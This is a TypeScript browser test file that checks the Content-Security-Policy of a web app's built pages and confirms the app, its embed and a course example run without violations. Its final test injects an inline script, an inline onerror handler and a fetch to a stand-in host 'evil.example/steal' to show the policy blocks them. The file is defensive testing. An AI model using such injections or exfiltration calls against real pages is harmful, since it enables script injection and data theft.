// Safety of the built pages, in Chromium: the Content-Security-Policy on index.html and embed.html (no eval, no
// inline script or handler, scripts from self only, no foreign connection), and no violation of it anywhere in the
// app, the embed and the example course page. rec= values, hostile recordings and the size limit while reading are
// in safety-rec, safety-hostile and size-limit.test.ts.
import { expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { appUrl, watchErrors, ready, theBrowser, withBrowser } from './browser';

withBrowser();

/** The directives of the CSP meta tag of a built page, as {name: [values]}. */
async function cspOf(path: string): Promise<Record<string, string[]>> {
  const html = await (await fetch(appUrl(path))).text();
  const m = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
  if (!m) throw new Error(`${path}: no CSP meta tag`);
  return Object.fromEntries(
    m[1]!
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .map(([name, ...values]) => [name!, values]),
  );
}

test.each(['index.html', 'embed.html'])('%s carries a CSP: scripts from self only, no eval, no inline script, no plugins', async (path) => {
  const csp = await cspOf(path);
  expect(csp['script-src']).toEqual(["'self'"]);
  expect(csp['object-src']).toEqual(["'none'"]);
  expect(csp['base-uri']).toEqual(["'self'"]);
  expect(csp['default-src']).toEqual(["'self'"]);
  for (const values of Object.values(csp)) expect(values).not.toContain("'unsafe-eval'");
  // connect-src: only self (plus the build-time allowlist, empty in this build)
  expect(csp['connect-src']).toEqual(["'self'"]);
  // nothing inline at all, styles included; workers are files of this site
  for (const values of Object.values(csp)) expect(values).not.toContain("'unsafe-inline'");
  expect(csp['style-src']).toEqual(["'self'"]);
  expect(csp['worker-src']).toEqual(["'self'"]);
  expect(csp['img-src']).toEqual(["'self'", 'blob:']);
});

/** A page whose `securitypolicyviolation` events and console CSP messages are collected from its first script on. */
async function watchedPage(): Promise<{ page: Page; violations: () => Promise<string[]> }> {
  const page = await theBrowser().newPage({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  const consoleCsp: string[] = [];
  page.on('console', (m) => {
    if (/Content.Security.Policy/i.test(m.text())) consoleCsp.push(`console: ${m.text().slice(0, 200)}`);
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
  });
  const violations = async () => [...(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)), ...consoleCsp];
  return { page, violations };
}

test('the app runs under its CSP with no violation: analysis and fetch workers, highlighting, lab, matrix, comparison, waterfall and its exports', async () => {
  for (const path of ['?lang=en&rec=agent-run', '?lang=zh&rec=parallel-probe&compare=1', '?lang=en&rec=parallel-probe&lab=1&faults=rechunk:3&matrix=1']) {
    const { page, violations } = await watchedPage();
    const errors = watchErrors(page);
    await page.goto(appUrl(path));
    await ready(page);
    await page.keyboard.press('End');
    if (path.includes('agent-run')) {
      // shiki's JavaScript regex engine coloured the JSON (token colours are set through CSSOM)
      await page.locator('span[style*="color"]').first().waitFor();
      await page.locator('.wf-lazy').scrollIntoViewIfNeeded();
      await page.getByRole('region', { name: 'Span waterfall' }).waitFor();
      for (const name of ['Export SVG', 'Export PNG']) {
        const download = page.waitForEvent('download');
        await page.getByRole('button', { name }).first().click();
        expect((await download).suggestedFilename(), name).toMatch(/^streamscope-waterfall\.(svg|png)$/);
      }
    }
    await page.waitForTimeout(500);
    expect(await violations(), path).toEqual([]);
    expect(errors, path).toEqual([]);
    await page.close();
  }
});

test('the embed and the example course page (iframe + custom element, styles adopted, not a <style>) run under the CSP with no violation', async () => {
  const { page, violations } = await watchedPage();
  await page.goto(appUrl('embed.html?lang=en&rec=agent-run&panels=waterfall'));
  await ready(page);
  await page.keyboard.press('End');
  await page.waitForTimeout(500);
  expect(await violations()).toEqual([]);
  await page.goto(appUrl('examples/course.html'));
  await expect.poll(() => page.locator('#iframe-status').textContent(), { timeout: 20_000 }).toMatch(/^ready: \d+ frames$/);
  const el = page.locator('streamscope-player').first();
  await el.scrollIntoViewIfNeeded();
  await el.locator('input[type=range]:not([disabled])').waitFor();
  // two sheets: the first view's, then (after the first paint) the later areas', whose boxes are shown only then
  const sheets = () =>
    el.evaluate((host) => ({
      adopted: host.shadowRoot?.adoptedStyleSheets.length ?? 0,
      styleElements: host.shadowRoot?.querySelectorAll('style').length ?? -1,
      later: host.shadowRoot?.querySelector('.ss-mount')?.getAttribute('data-ss-styles') ?? null,
    }));
  await expect.poll(sheets, { timeout: 10_000 }).toEqual({ adopted: 2, styleElements: 0, later: 'all' });
  await page.waitForTimeout(500);
  expect(await violations()).toEqual([]);
  await page.close();
});

test.each(['?lang=en', 'embed.html?lang=en'])('the CSP of %s blocks an injected inline script, an inline handler and a foreign fetch', async (path) => {
  const page = await theBrowser().newPage();
  const violations: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
  });
  await page.goto(appUrl(path));
  await ready(page);
  const outcome = await page.evaluate(async () => {
    const w = window as unknown as { __injected?: number };
    const s = document.createElement('script');
    s.textContent = 'window.__injected = 1';
    document.head.appendChild(s);
    // an inline event handler is inline script too
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__injected = 2');
    document.body.appendChild(img);
    img.src = 'data:,not-an-image';
    await new Promise((resolve) => img.addEventListener('error', resolve));
    img.remove();
    let fetchError = '';
    try {
      await fetch('https://evil.example/steal');
    } catch (e) {
      fetchError = (e as Error).name;
    }
    return { injected: w.__injected ?? null, fetchError };
  });
  expect(outcome).toEqual({ injected: null, fetchError: 'TypeError' });
  expect(violations.filter((v) => /inline (script|event handler)/i.test(v)).length).toBeGreaterThanOrEqual(2);
  expect(violations.some((v) => /connect-src/.test(v))).toBe(true);
  await page.close();
});
